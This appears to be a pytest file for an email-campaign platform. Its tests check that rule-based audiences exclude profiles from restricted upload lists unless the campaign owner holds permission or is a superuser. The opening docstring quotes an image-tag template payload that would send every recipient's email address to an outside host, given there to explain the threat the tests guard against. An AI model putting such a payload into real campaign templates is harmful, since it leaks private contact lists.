"""A rule audience never sends to a profile the campaign's owner could not see
(issue 10, second review; SPEC §2: a restricted object is restricted whatever
the role). A profile known only through a restricted upload audience stays out
of the run — otherwise a manager's rule ``email contains @`` would mail the
hidden list, and ``<img src="https://me.example/?{{ profile.email }}">`` would
hand over every address."""

from __future__ import annotations

import pytest
from guardian.shortcuts import assign_perm

from audiences.models import Audience, AudienceMember, Profile
from campaigns.engine.materialize import insert_deliveries
from campaigns.models import Campaign, Delivery, Run
from tests.campaigns.conftest import make_campaign

OSLO = {"all": [{"field": "attributes.city", "op": "eq", "value": "Oslo"}]}


@pytest.fixture
def people(db):
    vip = Audience.objects.create(name="VIP list", kind="upload", restricted=True, size=1)
    secret = Profile.objects.create(
        email="secret@example.com", consent_email=True, attributes={"city": "Oslo"}
    )
    AudienceMember.objects.create(audience=vip, profile=secret)
    Profile.objects.create(
        email="public@example.com", consent_email=True, attributes={"city": "Oslo"}
    )
    return vip


def _targets(owner) -> set[str]:
    rule = Audience.objects.create(name="Oslo", kind="rule", rule=OSLO)
    campaign = make_campaign(rule)
    Campaign.objects.filter(pk=campaign.pk).update(created_by=owner)
    campaign.refresh_from_db()
    run = Run.objects.create(
        campaign=campaign, version=campaign.live_version, kind=Run.Kind.ONE_SHOT
    )
    insert_deliveries(run)
    return set(Delivery.objects.filter(run=run).values_list("address", flat=True))


def test_a_managers_rule_audience_leaves_out_hidden_profiles(manager, people):
    assert _targets(manager) == {"public@example.com"}


def test_a_grant_on_the_restricted_audience_includes_them(manager, people):
    assign_perm("audiences.view_audience", manager, people)
    assert _targets(manager) == {"public@example.com", "secret@example.com"}


def test_a_superusers_campaign_reaches_everyone(make_user, people):
    root = make_user("root", superuser=True)
    assert _targets(root) == {"public@example.com", "secret@example.com"}


def test_a_campaign_without_an_owner_reaches_only_what_everyone_sees(people):
    assert _targets(None) == {"public@example.com"}


def test_the_api_counts_a_rule_audience_without_hidden_profiles(api_for, manager, people):
    rule = Audience.objects.create(name="Oslo", kind="rule", rule=OSLO)
    assert api_for(manager).get(f"/audiences/{rule.pk}").json()["size"] == 1
